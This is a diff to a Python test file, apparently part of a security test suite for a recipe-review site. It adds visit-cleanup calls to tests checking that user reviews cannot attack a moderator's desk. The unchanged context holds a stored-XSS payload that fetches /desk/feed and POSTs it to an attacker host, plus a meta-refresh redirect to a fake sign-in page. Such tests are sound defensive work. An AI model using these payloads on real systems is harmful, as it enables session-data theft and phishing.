@@ -1,6 +1,6 @@
 import json
 
-from ladle import mark
+from ladle import finished, mark
 
 
 def test_desk_takes_the_key(reviews, at_desk, attacker, flag):
@@ -10,12 +10,13 @@ def test_desk_takes_the_key(reviews, at_desk, attacker, flag):
     send = f"t=>fetch('{there}',{{method:'POST',mode:'no-cors',body:t}})"
     code = f"fetch('/desk/feed').then(r=>r.text()).then({send})"
     reviews.write(1, body=f'Lovely.<img src="/nothing" onerror="{code}">')
-    at_desk()
+    visit = at_desk()
     taken = [r for r in attacker.requests() if r.path == f"/{word}" and flag in r.text]
     assert not taken, (
         "Mona read a new review at her desk. What it held ran in her browser, opened /desk/feed with her session "
         f"and sent the feed key to {attacker.url}. Her cookie is HttpOnly; the script never needed it."
     )
+    finished(visit)
 
 
 def test_desk(payloads):
@@ -82,15 +83,17 @@ def test_led_away_without_script(reviews, at_desk, reading, attacker):
     page = attacker.serve(f"/{word}", "<!doctype html><title>Sign in</title><p>Your session is over.")
     text = f'<meta http-equiv="refresh" content="0;url={page}">'
     number = reviews.write(2, body=text, title=text)
-    at_desk()
+    visit = at_desk()
     assert not [r for r in attacker.requests() if r.path == f"/{word}"], (
         f"A review that holds {text} takes Mona from her desk to {attacker.url}, without any script."
     )
+    finished(visit)
     reviews.decide(number, "show")
-    reading(2)
+    visit = reading(2)
     assert not [r for r in attacker.requests() if r.path == f"/{word}"], (
         f"A review that holds {text} takes every reader of the recipe to {attacker.url}, without any script."
     )
+    finished(visit)
 
 
 def test_no_elements_of_its_own(words):
